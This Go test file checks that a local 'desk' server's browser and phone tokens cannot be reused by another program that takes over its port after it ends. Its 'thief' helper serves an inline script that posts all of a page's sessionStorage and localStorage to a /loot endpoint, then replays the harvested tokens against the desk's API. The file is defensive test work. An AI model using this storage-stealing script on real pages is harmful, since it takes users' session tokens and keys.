package tests

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/askpane/askpane/integrations/desk/gate"
	"github.com/askpane/askpane/tests/must"
	"github.com/askpane/askpane/tests/needs"
)

// thief is another program that has the port of a desk that has ended. It keeps all that it
// gets, and serves a page of its own that sends it all that the browser keeps for that port.
type thief struct {
	http.Server
	mu  sync.Mutex
	got []string
}

func (p *person) thief(port int) *thief {
	p.Helper()
	var l net.Listener
	eventually(p, "the port is free", func() (free bool) { // a process that is killed lets go of it a moment later
		var err error
		l, err = net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", port))
		return err == nil
	})
	th := &thief{}
	th.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		th.mu.Lock()
		th.got = append(th.got, r.Header.Get("Authorization"), string(body))
		th.mu.Unlock()
		switch r.URL.Path {
		case "/":
			fmt.Fprint(w, `<script>fetch('/loot', {method: 'POST', body: JSON.stringify({...sessionStorage, ...localStorage})}).then(() => { document.title = 'stolen' })</script>`)
		case "/api/enter":
			fmt.Fprint(w, `{"proof": "0123", "bearer": "mine"}`)
		case "/api/events": // as a desk that knows the page
			w.Header().Set("Askpane-Key", "mine")
			w.Header().Set("Content-Type", "text/event-stream")
			fmt.Fprint(w, "event: hello\ndata: {\"page\": \"mine\"}\n\nevent: view\ndata: {\"n\": 1, \"html\": \"a question of the thief\", \"title\": \"\"}\n\n")
		}
	})
	go th.Serve(l) //nolint:errcheck // it is closed
	p.Cleanup(func() { th.Close() })
	return th
}

// has waits until the thief has got that.
func (th *thief) has(p *person, what string) {
	p.Helper()
	eventually(p, "the thief gets "+what, func() bool { return strings.Contains(th.all(), what) })
}

func (th *thief) all() string {
	th.mu.Lock()
	defer th.mu.Unlock()
	return strings.Join(th.got, "\n")
}

// tokens are the words that the thief has got, any of which may be a token or a key.
func (th *thief) tokens() []string {
	return strings.FieldsFunc(th.all(), func(r rune) bool { return strings.ContainsRune(" \n\"{}:,", r) })
}

// opens tries all that the thief has got at the desk's door.
func (th *thief) opens(p *person) {
	p.Helper()
	desk, _ := p.desk()
	for _, token := range th.tokens() {
		was, _, _ := strings.Cut(token, ".")
		body, err := json.Marshal(map[string]string{"was": was, "key": token, "token": token, "pair": token})
		must.Do(p, err)
		for path, body := range map[string]string{"events": "", "enter": string(body), "do": "{}"} {
			r, err := http.NewRequest(map[bool]string{true: "GET", false: "POST"}[body == ""], desk.URL+"api/"+path, strings.NewReader(body))
			must.Do(p, err)
			r.Header.Set("Authorization", "Bearer "+token)
			r.Header.Set("Origin", strings.TrimSuffix(desk.URL, "/"))
			r.Header.Set("Content-Type", "application/json")
			w, err := http.DefaultClient.Do(r)
			must.Do(p, err)
			w.Body.Close()
			if w.StatusCode < 400 {
				p.Errorf("what the thief has got opens /api/%s: %s", path, w.Status)
			}
		}
	}
}

// What a page sends and a browser keeps is worth nothing to whoever has the desk's port after
// it: a page that is open asks first whether it is the desk, and goes on when that is back; one
// that was loaded from there, or that the browser restores, has to be opened again.
func TestPageOfAnotherProgram(t *testing.T) {
	t.Parallel()
	needs.Long(t, "the page in a browser")
	for name, end := range map[string]syscall.Signal{"that has ended": syscall.SIGTERM, "that was killed": syscall.SIGKILL} {
		t.Run("of a desk "+name, func(t *testing.T) {
			p := newPerson(t, newSpool(t))
			a, id := p.ask(colour)
			p.link("") // the desk is up
			open := p.browse().comes(p.link(id)).sees("#q0-c0")
			reloads := open.another().comes(p.link(""))
			reloads.sees("1 waiting")
			restored := reloads.eval("sessionStorage.askpane")
			desk, _ := p.desk()
			a.kill(syscall.SIGSTOP) // it would have a killed desk up again before the thief is there
			p.end(desk.PID, end)

			thief := p.thief(desk.Port)
			thief.has(p, `"nonce"`) // of the page that is open
			reloads.do(chromedp.Reload())
			reloads.until("document.title == 'stolen'")
			thief.has(p, strings.Trim(restored, `"`))
			open.eval("location.hash = '#h='")
			open.eval("location.hash = '#q=" + id + "'")
			open.sees("The connection to the desk is lost")
			if strings.Contains(open.eval("document.body.innerText"), "of the thief") {
				t.Error("the thief's question is on the page")
			}
			thief.Close()

			a.kill(syscall.SIGCONT)
			p.link("") // starts it
			if now, _ := p.desk(); now.Port != desk.Port {
				t.Fatalf("the desk is back on port %d, not %d", now.Port, desk.Port)
			}
			thief.opens(p)
			reloads.do(chromedp.Reload())
			reloads.sees("The desk was away since this page was opened", "askpane page")
			again := open.another().at("")
			again.eval("sessionStorage.askpane = " + restored)
			again.do(chromedp.Reload())
			again.sees("The desk was away since this page was opened", "askpane page")
			reloads.comes(p.link("")).sees("1 waiting")
			open.sees("#q0-c0").types("2").sees(said)
			a.answered("Colour: user selected: 2. Green")
			open.do(chromedp.Reload()) // by what it has got since
			open.sees("This was answered in the browser").well()
		})
	}
}

// A phone that comes after the desk was away shows a code, and is let in when the person has
// typed that at the machine.
func TestPhoneAfterTheDeskWasAway(t *testing.T) {
	t.Parallel()
	needs.Long(t, "the page in a browser")
	p := newPerson(t, newSpool(t), "ASKPANE_PAGE_HOSTS=desk.example")
	phone := p.browse().another()
	desk, _ := p.desk()
	link, err := gate.Keys(p.home+"/.local/state/askpane/desk").Link(desk.URL, true, "")
	must.Do(t, err)
	phone.do(chromedp.Navigate("about:blank"), chromedp.Navigate(link))
	phone.sees("No question waits").until("localStorage.askpane && !sessionStorage.askpane && !location.hash.includes('p=')")
	old := phone.eval("localStorage.askpane")
	phone.do(chromedp.Navigate("about:blank")) // it is put away
	p.end(desk.PID, syscall.SIGTERM)
	thief := p.thief(desk.Port)
	phone.do(chromedp.Navigate(desk.URL))
	phone.until("document.title == 'stolen'")
	thief.has(p, strings.Trim(old, `"`))
	thief.Close()

	a, _ := p.ask(colour)
	p.link("") // starts it
	phone.do(chromedp.Navigate("about:blank"))
	phone.at("").sees("The desk was away since this device was here. To let it in again, run on the machine: askpane phone confirm ").judged("a-code")
	thief.opens(p)
	code := phone.eval(`/confirm (\w{10})/.exec(document.body.innerText)[1]`)
	if out, err := p.command(binary, "phone", "confirm", strings.Trim(code, `"`)).CombinedOutput(); err != nil {
		t.Fatalf("askpane phone confirm: %v, %s", err, out)
	}
	phone.sees("1 waiting").steps("[Colour] → #q0-c0", "2 → "+said)
	a.answered("Colour: user selected: 2. Green")
	thief.opens(p)
	out, err := p.command(binary, "phone", "list").Output()
	if lines := strings.Split(strings.TrimSpace(string(out)), "\n"); err != nil || len(lines) != 2 || !strings.HasPrefix(lines[0], "t") || !strings.HasPrefix(lines[1], "p") || !strings.Contains(lines[1], "paired") {
		t.Errorf("askpane phone list: %v, %s", err, out)
	}
	out, err = p.command(binary, "phone", "revoke", strings.Trim(old, `"`)[:6]).CombinedOutput()
	must.Do(t, err)
	phone.sees("This page is not known to the desk").until("document.querySelector('main').innerText.startsWith('This page is not known') && document.title == 'askpane'").judged("revoked")
	if !strings.Contains(string(out), "is forgotten") {
		t.Errorf("askpane phone revoke: %s", out)
	}
}

// A link that cannot be used just then stays on the page and in its address, and is tried again.
func TestLinkIsTriedAgain(t *testing.T) {
	t.Parallel()
	needs.Long(t, "the page in a browser")
	p := newPerson(t, newSpool(t))
	b := p.browse()
	link := p.link("")
	_, token, _ := strings.Cut(link, "#t=")
	was := b.eval("sessionStorage.askpane")
	desk, _ := p.desk()
	p.end(desk.PID, syscall.SIGKILL)
	b.eval("location.hash = '#t=" + token + "'")
	b.sees("The connection to the desk is lost").until("location.hash.includes('" + token + "')")
	p.link("") // starts it
	b.until("!location.hash.includes('t=') && sessionStorage.askpane != " + was).sees("No question waits").well()
}

// A browser that may keep nothing, since its person takes no cookies, shows the page, which goes on when the desk was
// away, for as long as it is open.
func TestPageWithoutCookies(t *testing.T) {
	t.Parallel()
	needs.Long(t, "the page in a browser")
	p := newPerson(t, newSpool(t))
	dir := t.TempDir()
	must.Do(t, os.Mkdir(filepath.Join(dir, "Default"), 0o700))
	fileIn(t, filepath.Join(dir, "Default"), "Preferences", `{"profile":{"default_content_setting_values":{"cookies":2}}}`)
	b := p.browser(chromedp.UserDataDir(dir))
	a, id := p.ask(colour)
	link := p.link(id)
	_, b.token, _ = strings.Cut(link, "#t=")
	b.do(chromedp.Navigate(link))
	b.sees("#q0-c0")
	if denied := b.eval("(() => { try { return !sessionStorage } catch { return true } })()"); denied != "true" {
		t.Fatal("the browser keeps what it is not to keep")
	}
	desk, _ := p.desk()
	p.end(desk.PID, syscall.SIGKILL)
	b.sees("The connection to the desk is lost")
	p.link("") // starts it
	b.isRight().types("2").sees(said).well()
	a.answered("Colour: user selected: 2. Green")
}
